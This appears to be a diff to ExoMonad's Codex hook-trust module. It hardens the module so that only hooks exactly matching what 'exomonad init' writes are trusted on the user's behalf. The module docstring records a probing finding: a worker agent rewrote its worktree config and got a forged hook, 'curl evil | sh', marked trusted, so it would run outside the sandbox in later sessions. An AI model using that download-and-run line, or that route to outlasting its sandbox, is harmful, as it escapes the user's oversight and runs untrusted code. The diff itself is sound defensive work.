@@ -27,7 +27,14 @@ worktree: so the user's consent is recorded once (``[workers] codex_trust = true
 ``.exomonad/config.toml``, written by ``init --trust-codex-hooks``), and ExoMonad records
 trust for *its own* hooks in each new worktree's ``.codex/config.toml`` when it makes
 it, then verifies them before the worker starts. Hooks that are not ExoMonad's are never
-trusted on the user's behalf.
+trusted on the user's behalf: a worker can rewrite its own worktree's
+``.codex/config.toml``, and a hook recorded as trusted in the user's real Codex config
+would run in any later Codex session in that path, sandbox or not (found probing: a hook
+``command = "curl evil | sh # exomonad hook"`` gained a ``trusted_hash`` and its worktree
+``trust_level = "trusted"``). So trust is recorded only when the file's whole ``[hooks]``
+table is exactly what ``exomonad init`` writes (:func:`exomonad_hook_problems`: each
+event, matcher, command and time-out, compared after parsing, no other hook), else
+nothing is written and the worker is refused, saying which hooks to look at.
 
 >>> hook_event_label("PreToolUse"), hook_event_label("pre-tool-use")
 ('pre_tool_use', 'pre_tool_use')
@@ -47,13 +54,15 @@ from pathlib import Path
 from typing import Any
 
 from exomonad.errors import GateError
-from exomonad.runtimes.base import HOOK_MARK
+from exomonad.runtimes.base import HOOK_MARK, hook_command, set_hooks
 
 __all__ = [
     "DEFAULT_TIMEOUT",
     "MATCHERLESS_EVENTS",
     "TRUST_FIX",
     "codex_home",
+    "exomonad_hook_problems",
+    "exomonad_hooks",
     "hook_event_label",
     "hook_state_key",
     "hook_trust_entries",
@@ -113,10 +122,10 @@ def _load(path: Path) -> dict[str, Any]:
     return data if isinstance(data, dict) else {}
 
 
-def hook_trust_entries(source: Path, *, ours_only: bool = False) -> dict[str, str]:
+def hook_trust_entries(source: Path) -> dict[str, str]:
     """``{state key: trusted hash}`` for every command hook declared in ``source`` (a
-    ``config.toml`` with a ``[hooks]`` table, or a ``hooks.json``); with ``ours_only``,
-    ExoMonad's hooks only."""
+    ``config.toml`` with a ``[hooks]`` table, or a ``hooks.json``), whoever wrote it (which
+    are ExoMonad's: :func:`exomonad_hook_problems`)."""
     source = source.resolve()
     hooks = _load(source).get("hooks") or {}
     entries: dict[str, str] = {}
@@ -130,12 +139,143 @@ def hook_trust_entries(source: Path, *, ours_only: bool = False) -> dict[str, st
             for i, handler in enumerate(handlers if isinstance(handlers, list) else []):
                 if not isinstance(handler, dict) or handler.get("type", "command") != "command":
                     continue
-                if ours_only and HOOK_MARK not in str(handler.get("command", "")):
-                    continue
                 entries[hook_state_key(source, event, g, i)] = hook_trust_hash(
                     event, handler, matcher
                 )
     return entries
+
+
+def exomonad_hooks(approval_timeout: int, *, front: bool) -> dict[str, Any]:
+    """The ``[hooks]`` table ``exomonad init`` writes for Codex (as :meth:`CodexCli.configure
+    <exomonad.runtimes.codex.CodexCli.configure>` builds it) for ``[policy]
+    approval_timeout``, its commands started through the hook client's shell front
+    (``exomonad-hook exomonad hook ...``, written when PATH has it) or not."""
+    from exomonad.util.selfexec import EXOMONAD, hook_front
+
+    return _table(approval_timeout, front=front, here=hook_front(EXOMONAD))
+
+
+def _table(approval_timeout: int, *, front: bool, here: str | None) -> dict[str, Any]:
+    """:func:`exomonad_hooks`, where ``here`` is what :func:`hook_command` puts before
+    ``exomonad`` on this machine (:func:`exomonad.util.selfexec.hook_front`)."""
+    from exomonad.runtimes.codex import CODEX, HOOKS
+    from exomonad.util.selfexec import EXOMONAD, HOOK_FRONT
+
+    table: dict[str, Any] = {}
+    for event, ours in HOOKS:
+        command = hook_command(EXOMONAD, ours, CODEX, approval_timeout)
+        if here and command.startswith(f"{here} "):
+            command = command[len(here) + 1 :]
+        set_hooks(table, event, None, f"{HOOK_FRONT} {command}" if front else command,
+                  approval_timeout + 30)  # fmt: skip
+    return table
+
+
+def _canonical(value: Any) -> str:
+    """Compact sorted JSON: ``80``, ``80.0`` and ``true`` differ (Python's ``==`` would
+    take ``True`` for ``1``)."""
+    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=True)
+
+
+def _show(value: Any, limit: int = 300) -> str:
+    """``value`` as escaped JSON, cut to ``limit`` characters with a count."""
+    text = _canonical(value)
+    return text if len(text) <= limit else f"{text[:limit]}… ({len(text) - limit} more characters)"
+
+
+def _handlers(hooks: Mapping[str, Any]) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = []
+    for groups in hooks.values():
+        for group in groups if isinstance(groups, list) else []:
+            handlers = group.get("hooks") if isinstance(group, dict) else None
+            found += [h for h in handlers or [] if isinstance(h, dict)]
+    return found
+
+
+def _matches(hooks: Mapping[str, Any], expected: Mapping[str, Any]) -> int:
+    """How many of ExoMonad's events ``hooks`` holds exactly as ``expected``."""
+    want = {event: _canonical(groups[0]) for event, groups in expected.items()}
+    return sum(
+        isinstance(hooks.get(event), list) and any(_canonical(g) == text for g in hooks[event])
+        for event, text in want.items()
+    )
+
+
+def _expected_for(hooks: Mapping[str, Any]) -> dict[str, Any]:
+    """ExoMonad's table in the form that fits the file best: the approval time-out and
+    shell front read off its hooks (the defaults when none fits)."""
+    forms = {(80, False)} | {
+        (h["timeout"], str(h.get("command", "")).startswith("exomonad-hook "))
+        for h in _handlers(hooks)
+        if type(h.get("timeout")) is int and h["timeout"] >= 30
+    }
+    from exomonad.util.selfexec import EXOMONAD, hook_front
+
+    here = hook_front(EXOMONAD)
+    tables = [_table(timeout - 30, front=front, here=here) for timeout, front in sorted(forms)]
+    return max(tables, key=lambda table: _matches(hooks, table))
+
+
+#: What :func:`_hook_check` finds wrong: a hook bearing :data:`HOOK_MARK` that is not
+#: exactly ExoMonad's (it would pass for ours), another hook, one of ExoMonad's missing.
+FORGED, OTHER, MISSING = "forged", "other", "missing"
+
+
+def _hook_check(source: Path) -> tuple[dict[str, str], list[tuple[str, str]]]:
+    """``({state key: hash}`` of the hooks in ``source`` that are exactly ExoMonad's,
+    ``[(kind, problem)]`` for everything else in its ``[hooks]`` (kinds: :data:`FORGED`,
+    :data:`OTHER`, :data:`MISSING`)."""
+    source = source.resolve()
+    hooks = _load(source).get("hooks")
+    if not isinstance(hooks, dict):
+        return {}, [(MISSING, "it has no [hooks] table")]
+    expected = _expected_for(hooks)
+    ours: dict[str, str] = {}
+    problems: list[tuple[str, str]] = []
+
+    def kind(value: Any) -> str:
+        return FORGED if HOOK_MARK in _canonical(value) else OTHER
+
+    for event, groups in hooks.items():
+        where = f"hooks.{event}"
+        want = _canonical(expected[event][0]) if event in expected else None
+        if event == "state":
+            problems.append((FORGED, f"{where}: hook trust belongs in your own Codex "
+                                     "config, never in a project's"))  # fmt: skip
+            continue
+        if not isinstance(groups, list):
+            problems.append((kind(groups), f"{where} = {_show(groups)}"))
+            continue
+        matched = False
+        for g, group in enumerate(groups):
+            if not matched and _canonical(group) == want:
+                matched = True  # exactly ExoMonad's: one command handler, no matcher
+                ours[hook_state_key(source, event, g, 0)] = hook_trust_hash(
+                    event, group["hooks"][0], None
+                )
+                continue
+            handlers = group.get("hooks") if isinstance(group, dict) else None
+            if not isinstance(handlers, list) or not handlers:
+                problems.append((kind(group), f"{where}[{g}] = {_show(group)}"))
+                continue
+            rest = {k: v for k, v in group.items() if k != "hooks"}
+            also = f" (in a group with {_show(rest)})" if rest else ""
+            for i, handler in enumerate(handlers):
+                problems.append(
+                    (kind(handler), f"{where}[{g}].hooks[{i}] = {_show(handler)}{also}")
+                )
+    for event in expected:
+        if not hooks.get(event):  # present but not ours: reported above
+            problems.append((MISSING, f"hooks.{event}: ExoMonad's hook is missing"))
+    return ours, problems
+
+
+def exomonad_hook_problems(source: Path) -> list[str]:
+    """What keeps the ``[hooks]`` of ``source`` from being exactly what ``exomonad init``
+    writes (:func:`exomonad_hooks`, every hook compared after parsing: event, matcher,
+    command, time-out, nothing added): each hook that differs or is not ExoMonad's, each
+    of ExoMonad's that is missing. Empty: ExoMonad may trust them on the user's behalf."""
+    return [problem for _, problem in _hook_check(source)[1]]
 
 
 def _user_config(home: Path) -> dict[str, Any]:
@@ -163,9 +303,13 @@ def untrusted_hooks(home: Path, hooks_file: Path, checkout: Path) -> list[str]:
     if not hooks_file.is_file():
         return [f"{hooks_file} is missing (run `exomonad init` and commit .codex/)"]
     try:
-        ours = hook_trust_entries(hooks_file, ours_only=True)
+        ours, found = _hook_check(hooks_file)
     except (OSError, ValueError) as exc:
         return [f"cannot read {hooks_file} ({exc})"]
+    forged = [problem for kind, problem in found if kind == FORGED]
+    if forged:
+        return [f"hooks in {hooks_file} look like ExoMonad's but are not exactly what "
+                f"`exomonad init` writes: {'; '.join(forged)}"]  # fmt: skip
     if not any(":pre_tool_use:" in key for key in ours):
         return [f"{hooks_file} has no ExoMonad PreToolUse hook (run `exomonad init`)"]
     config = _user_config(home)
@@ -195,11 +339,28 @@ def require_trusted(home: Path, hooks_file: Path, checkout: Path) -> None:
 def record_trust(home: Path, hooks_file: Path, checkout: Path) -> dict[str, str]:
     """Trust ``checkout`` as a project and ExoMonad's hooks in ``hooks_file`` in
     ``home/config.toml`` (comments and the user's other settings kept); returns the hook
-    entries written. Only with the user's consent (see the module doc)."""
+    entries written. Only with the user's consent (see the module doc), and only when
+    ``hooks_file`` holds exactly ExoMonad's hooks (:func:`exomonad_hook_problems`), else
+    :class:`GateError` and nothing written."""
     import tomlkit
 
-    ours = hook_trust_entries(hooks_file, ours_only=True)
     path = home / "config.toml"
+    try:
+        ours, problems = _hook_check(hooks_file)
+    except (OSError, ValueError) as exc:
+        raise GateError(f"cannot read {hooks_file} ({exc}); nothing was trusted") from exc
+    if problems:
+        raise GateError(
+            f"ExoMonad refuses to trust the Codex hooks in {hooks_file} on your behalf: "
+            "they are not exactly the hooks `exomonad init` writes, and Codex would run "
+            "whatever a trusted hook says in every later Codex session in "
+            f"{checkout}. Look at: {'; '.join(p for _, p in problems)}. Nothing was written "
+            f"to {path}. A worker can rewrite its own checkout's .codex/config.toml: "
+            "remove that worker's worktree if you did not make the change; if the "
+            "project's committed .codex/config.toml differs, run `exomonad init` and "
+            "commit .codex/ (any other hook of yours there you must trust yourself, and "
+            "start such workers without [workers] codex_trust), then start the worker again"
+        )
     _user_config(home)  # refuse a config that does not parse, before touching it
     doc = tomlkit.parse(path.read_text(encoding="utf-8")) if path.exists() else tomlkit.document()
     projects = doc.setdefault("projects", tomlkit.table(is_super_table=True))
